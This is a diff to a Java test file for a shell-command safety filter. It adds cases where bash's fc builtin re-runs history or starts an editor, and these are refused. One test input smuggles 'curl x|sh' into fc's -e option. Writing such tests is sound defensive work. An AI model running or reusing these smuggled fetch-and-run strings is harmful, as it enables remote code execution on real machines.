@@ -126,6 +126,12 @@ class ArgvRiskyFlagsTest {
         refused("shell rule: history -s; fc -s", line("npm test; history -s 'x'; fc -s")),
         refused("shell rule: fc -e", line("npm test && fc -e /tmp/ed")),
         allowed("shell rule: fc -l only lists", line("npm test; fc -l")),
+        allowed("shell rule: fc -ln -5 only lists", line("npm test; fc -ln -5")),
+        // bash runs the command with -s whatever -l says; -e's value is not option letters
+        refused("shell rule: fc -l -s re-runs", line("npm test; set -o history; fc -l -s")),
+        refused("shell rule: fc -ls re-runs", line("npm test; fc -ls")),
+        refused("shell rule: fc -e glued", line("npm test; fc '-ecurl x|sh;true'")),
+        refused("shell rule: fc -le editor", line("npm test; fc -le vi")),
         allowed("shell rule: enable -n turns a builtin off", line("npm test; enable -n kill")),
         allowed("npm test with ordinary flags", line("npm test --loglevel=silent --no-audit")),
         allowed("npm ci --global is not --globalconfig", line("npm ci --global")),
